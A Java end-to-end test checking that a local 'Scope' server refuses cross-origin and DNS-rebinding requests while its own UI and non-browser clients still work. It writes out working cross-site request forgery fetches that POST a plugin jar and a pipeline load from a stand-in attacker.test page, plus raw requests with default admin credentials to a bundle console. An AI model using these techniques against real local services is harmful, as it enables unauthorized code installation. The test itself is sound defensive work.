package scope.test.e2e;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.List;
import java.util.Map;
import org.junit.Test;

/**
 * A web page from another site cannot drive the server on localhost, and a DNS-rebinding page cannot reach it under
 * its own name; our UI (same origin) and a non-browser client still can.
 *
 * <p>The attacker site is a second HTTP server in the test's namespace, reached by Chromium under the name
 * {@code attacker.test}; {@code rebind.test} resolves to the Scope server's own loopback address, as a rebinding
 * DNS answer would. Chromium's own private-network checks are switched off, as in browsers that lack them, so what
 * is refused is refused by our server (its log names each refusal).
 */
public class CrossOriginPagesCannotDriveTheServerTest {
    private static final List<String> FLAGS = List.of(
            "--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1",
            "--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,"
                    + "PrivateNetworkAccessRespectPreflightResults,LocalNetworkAccessChecks");

    @Test
    public void foreignPagesAreRefusedWhileOurUiAndCurlWork() throws Exception {
        byte[] jar = Files.readAllBytes(E2e.built("sample", "test.plugins.sample"));
        HttpServer attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 8);
        attacker.createContext("/", exchange -> {
            byte[] body = exchange.getRequestURI().getPath().endsWith(".jar") ? jar
                    : "<!doctype html><title>attacker</title>".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(body);
            }
        });
        attacker.start();
        try {
            E2e.run("CrossOriginPagesCannotDriveTheServerTest", Map.of(), FLAGS, e -> {
                int port = e.server.port();
                String victim = "http://localhost:" + port;
                e.page.navigate("http://attacker.test:" + attacker.getAddress().getPort() + "/");

                // "simple" requests need no preflight: a jar as text/plain, a load as a form-like text body
                e.js("fetch('/plugin.jar').then(r => r.arrayBuffer()).then(jar => fetch('" + victim
                        + "/api/v1/plugins', {method: 'POST', mode: 'no-cors', credentials: 'include', "
                        + "headers: {'Content-Type': 'text/plain'}, body: jar})).then(() => 'sent')");
                e.js("fetch('" + victim + "/api/v1/pipeline/load', {method: 'POST', mode: 'no-cors', "
                        + "headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({pipeline_ids: ['gray']})})"
                        + ".then(() => 'sent')");
                String read = e.js("fetch('" + victim + "/api/v1/pipeline/status', {credentials: 'include'})"
                        + ".then(r => 'read ' + r.status, err => 'blocked')").asText();
                assertEquals("no CORS grant for a foreign origin: the page cannot read the API", "blocked", read);

                assertFalse("the plugin was not installed",
                        e.server.get("/api/v1/plugins").body().contains("test.plugins.sample"));
                assertEquals("nothing was loaded", "not_loaded",
                        e.server.get("/api/v1/pipeline/status").json().path("status").asText());
                String log = Files.readString(e.server.log());
                assertTrue("the server itself refused the upload:\n" + tail(log),
                        log.contains("Refused POST /api/v1/plugins from origin http://attacker.test"));
                assertTrue("the server itself refused the load",
                        log.contains("Refused POST /api/v1/pipeline/load from origin http://attacker.test"));

                // DNS rebinding: the page's own origin, but our server is not called rebind.test
                e.page.navigate("http://rebind.test:" + port + "/");
                String page = e.js("document.body.innerText").asText();
                assertTrue("the UI is not served under a foreign name: " + page,
                        page.contains("not a name of this server"));
                int rebound = e.js("fetch('/api/v1/pipeline/load', {method: 'POST', headers: "
                        + "{'Content-Type': 'application/json'}, body: JSON.stringify({pipeline_ids: ['gray']})})"
                        + ".then(r => r.status)").asInt();
                assertEquals("a rebinding page cannot load a pipeline", 403, rebound);
                assertEquals("a rebinding page reaches the console neither", 403,
                        rawStatus(port, "GET /system/console/bundles HTTP/1.1\r\nHost: rebind.test:" + port
                                + "\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\nConnection: close\r\n\r\n"));
                assertEquals("the console refuses a foreign origin's bundle install", 403,
                        rawStatus(port, "POST /system/console/bundles HTTP/1.1\r\nHost: localhost:" + port
                                + "\r\nOrigin: http://attacker.test\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n"
                                + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 14\r\n"
                                + "Connection: close\r\n\r\naction=install"));

                // our own UI, same origin, still drives the server
                e.openUi("");
                int ours = e.js("fetch('/api/v1/pipeline/load', {method: 'POST', headers: "
                        + "{'Content-Type': 'application/json'}, body: JSON.stringify({pipeline_ids: ['gray']})})"
                        + ".then(r => r.status)").asInt();
                assertEquals("same-origin load", 200, ours);
                // and so does a client without a browser (no Origin)
                assertEquals(200, e.server.post("/api/v1/pipeline/load", "{\"pipeline_ids\": [\"passthrough\"]}")
                        .status());
            });
        } finally {
            attacker.stop(0);
        }
    }

    /** The status of a hand-written request (java.net.http does not let a client set Host). */
    private static int rawStatus(int port, String request) throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
            socket.setSoTimeout(20_000);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
            InputStream in = socket.getInputStream();
            String statusLine = new String(in.readNBytes(12), StandardCharsets.ISO_8859_1);
            return Integer.parseInt(statusLine.substring(9, 12));
        }
    }

    private static String tail(String log) {
        return log.length() > 3000 ? log.substring(log.length() - 3000) : log;
    }
}
